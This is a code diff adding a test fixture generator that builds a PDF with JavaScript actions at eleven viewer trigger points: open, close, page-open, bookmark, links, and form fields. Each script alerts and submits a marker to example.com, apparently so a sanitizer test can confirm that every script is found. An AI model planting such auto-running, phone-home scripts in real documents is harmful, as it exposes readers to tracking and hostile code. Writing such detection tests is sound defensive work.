@@ -346,3 +346,45 @@ export async function makePdfWithCmykJpeg(dir: string, marker: string): Promise<
   await fs.writeFile(file, assemblePdf(objects));
   return file;
 }
+
+/** The JavaScript actions of `makePdfWithScripts`, each counted once. */
+export const SCRIPT_COUNT = 11;
+
+/**
+ * A one-page text PDF with JavaScript everywhere a viewer runs it, each script naming `marker`
+ * (and phoning home with it): a document script (the /Names /JavaScript tree), an /OpenAction
+ * followed by a jump to the page (which must stay), the catalog's on-close action, the page's
+ * on-open action (its code in a compressed stream), a bookmark, a link running a script and
+ * one to a `javascript:` URI, a filled-in text field with keystroke and format scripts, a
+ * push button that submits the form, and a calculated field. Beside them, a plain web link.
+ */
+export async function makePdfWithScripts(dir: string, marker: string): Promise<string> {
+  const js = (what: string): string => `<< /S /JavaScript /JS ${pdfString(`app.alert("${what} ${marker}"); this.submitForm("https://example.com/${marker}");`)} >>`;
+  const field = "/Type /Annot /Subtype /Widget /F 4 /DA (/F1 10 Tf 0 g) /P 3 0 R";
+  const objects = [
+    "<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 6 0 R >> /OpenAction 8 0 R " +
+      `/AA << /WC ${js("closing")} >> /Outlines 10 0 R ` +
+      "/AcroForm << /Fields [13 0 R 14 0 R 15 0 R] /CO [15 0 R] /NeedAppearances true /DA (/F1 10 Tf 0 g) /DR << /Font << /F1 5 0 R >> >> >> >>",
+    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 150] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> " +
+      "/AA << /O 9 0 R >> /Annots [16 0 R 17 0 R 18 0 R 13 0 R 14 0 R 15 0 R] >>",
+    streamObject("", `BT /F1 18 Tf 36 100 Td (${PDF_TEXT}) Tj ET`),
+    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+    "<< /Names [(init) 7 0 R] >>",
+    js("document"),
+    `<< /S /JavaScript /JS ${pdfString(`app.alert("opening ${marker}");`)} /Next << /S /GoTo /D [3 0 R /Fit] >> >>`,
+    "<< /S /JavaScript /JS 12 0 R >>",
+    "<< /Type /Outlines /First 11 0 R /Last 11 0 R /Count 1 >>",
+    `<< /Title (Figures) /Parent 10 0 R /A ${js("bookmark")} >>`,
+    streamObject("", `app.alert("page ${marker}");`, true),
+    `<< ${field} /FT /Tx /T (name) /V (Jane) /Rect [220 60 380 80] /AA << /K ${js("keystroke")} /F ${js("format")} >> >>`,
+    `<< ${field} /FT /Btn /Ff 65536 /T (send) /Rect [220 20 300 40] /MK << /CA (Send) >> /A ${js("button")} >>`,
+    `<< ${field} /FT /Tx /T (total) /V (42) /Rect [310 20 380 40] /AA << /C ${js("calculate")} >> >>`,
+    `<< /Type /Annot /Subtype /Link /Rect [36 20 100 40] /Border [0 0 0] /A ${js("link")} >>`,
+    `<< /Type /Annot /Subtype /Link /Rect [100 20 160 40] /Border [0 0 0] /A << /S /URI /URI ${pdfString(`javascript:app.alert("${marker}")`)} >> >>`,
+    "<< /Type /Annot /Subtype /Link /Rect [160 20 220 40] /Border [0 0 0] /A << /S /URI /URI (https://example.com/) >> >>",
+  ];
+  const file = path.join(dir, `scripts-${crypto.randomUUID()}.pdf`);
+  await fs.writeFile(file, assemblePdf(objects));
+  return file;
+}
